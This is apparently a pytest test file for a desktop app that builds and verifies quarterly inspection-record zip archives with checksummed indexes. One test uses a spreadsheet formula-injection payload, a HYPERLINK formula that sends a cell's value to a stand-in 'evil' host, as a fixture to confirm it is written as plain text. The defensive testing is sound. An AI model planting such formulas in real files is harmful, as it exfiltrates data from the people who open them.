"""The quarterly archive made from the demo: it opens read-only and its index matches its files."""

from __future__ import annotations

import datetime
import hashlib
import io
import zipfile

import pytest

from desktop.printing.inspection import ArchiveRenderers
from desktop.services.inspections.archive import (
    INDEX_PDF,
    INDEX_XLSX,
    LEDGER_XLSX,
    STATE_CHANGED,
    STATE_EXTRA,
    STATE_MISSING,
    build_archive,
    check_archive,
)
from desktop.services.inspections.rules import InspectionError
from desktop.services.inspections.service import InspectionService
from desktop.services.problems.service import ProblemService
from desktop.services.unit_of_work import Database


@pytest.fixture
def demo_inspections(demo_engine, demo_data_dir):
    db = Database(demo_engine)
    return InspectionService(db, ProblemService(db, demo_data_dir))


def _quarter(day: datetime.date) -> str:
    return f"{day.year}Q{(day.month - 1) // 3 + 1}"


@pytest.fixture
def archive(demo_inspections, tmp_path):
    oldest = min(demo_inspections.rounds(), key=lambda r: r.start_date)
    out = tmp_path / "督查档案.zip"
    result = build_archive(demo_inspections, _quarter(oldest.start_date), out, ArchiveRenderers())
    return result, out


def test_the_archive_holds_every_paper_of_the_quarter_and_checks_clean(archive, demo_inspections):
    result, out = archive
    assert result.rounds and result.problems > 0 and result.warnings == []
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
    for number in result.rounds:
        folder = next(n.split("/")[0] for n in names if number in n)
        assert f"{folder}/抽查名单.pdf" in names
        assert f"{folder}/走访记录表（村）.pdf" in names
        assert f"{folder}/走访记录表（户）.pdf" in names
        assert any(n.startswith(f"{folder}/整改函_") for n in names)
        assert f"{folder}/问题清单.pdf" in names
    assert {LEDGER_XLSX, INDEX_XLSX, INDEX_PDF} <= set(names)
    assert any(n.startswith("佐证材料/") for n in names)
    stat = out.stat()
    check = check_archive(out)
    assert check.ok, check.summary()
    assert {r.path for r in check.rows} == set(names) - {INDEX_XLSX, INDEX_PDF}
    assert check.summary() == f"档案目录列出 {len(names) - 2} 个文件，全部一致"
    assert out.stat().st_mtime_ns == stat.st_mtime_ns  # opened read-only


def test_the_index_lists_each_file_with_its_real_checksum(archive):
    _result, out = archive
    check = check_archive(out)
    with zipfile.ZipFile(out) as z:
        for row in check.rows:
            data = z.read(row.path)
            assert (row.size, row.sha256) == (len(data), hashlib.sha256(data).hexdigest())


def test_a_changed_missing_or_unlisted_file_is_reported(archive, tmp_path):
    _result, out = archive
    bad = tmp_path / "改过的档案.zip"
    with zipfile.ZipFile(out) as src, zipfile.ZipFile(bad, "w") as dst:
        names = src.namelist()
        changed = next(n for n in names if n.endswith("抽查名单.pdf"))
        dropped = next(n for n in names if n.endswith("问题清单.pdf"))
        for name in names:
            if name == dropped:
                continue
            data = src.read(name)
            dst.writestr(name, data + b"%" if name == changed else data)
        dst.writestr("多出来的.txt", "x")
    check = check_archive(bad)
    assert not check.ok
    states = {c.path: c.state for c in check.problems}
    assert states == {changed: STATE_CHANGED, dropped: STATE_MISSING, "多出来的.txt": STATE_EXTRA}
    assert "3 处不一致" in check.summary()


def test_a_quarter_without_rounds_and_a_file_that_is_no_archive_are_refused(
    demo_inspections, tmp_path
):
    with pytest.raises(InspectionError, match="2019Q1（2019-01-01 至 2019-03-31）没有督查记录"):
        build_archive(demo_inspections, "2019Q1", tmp_path / "a.zip", ArchiveRenderers())
    assert not (tmp_path / "a.zip").exists()
    junk = tmp_path / "junk.zip"
    junk.write_text("not a zip")
    with pytest.raises(InspectionError, match="不是有效的档案压缩包"):
        check_archive(junk)


def test_the_index_writes_typed_text_as_text_never_a_formula():
    """An attachment named "=HYPERLINK(…).jpg" or a unit typed "=…" lands in 说明 as text."""
    from desktop.services.inspections.archive import index_xlsx, read_index
    from desktop.services.inspections.data import ArchiveIndex, IndexRow

    payload = '=HYPERLINK("http://evil/?"&B5,"点击").jpg'
    rows = (
        IndexRow(1, "佐证材料/X1/ab-照片.jpg", "佐证材料", "=1+1", payload, 4, "0" * 64),
        IndexRow(2, "01_D1/整改函_x.pdf", "整改函", "D1", "@SUM(1)，抄送\x07", 5, "1" * 64),
    )
    index = ArchiveIndex(
        "2020Q2脱贫攻坚督查档案目录",
        "2020Q2",
        datetime.datetime(2020, 6, 30, 9, 0),
        datetime.date(2020, 6, 30),
        ("-D1",),
        rows,
    )
    data = index_xlsx(index)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    _title, _quarter, back = read_index(data)
    assert [(r.round_number, r.description) for r in back] == [
        ("=1+1", payload),
        ("D1", "@SUM(1)，抄送"),
    ]
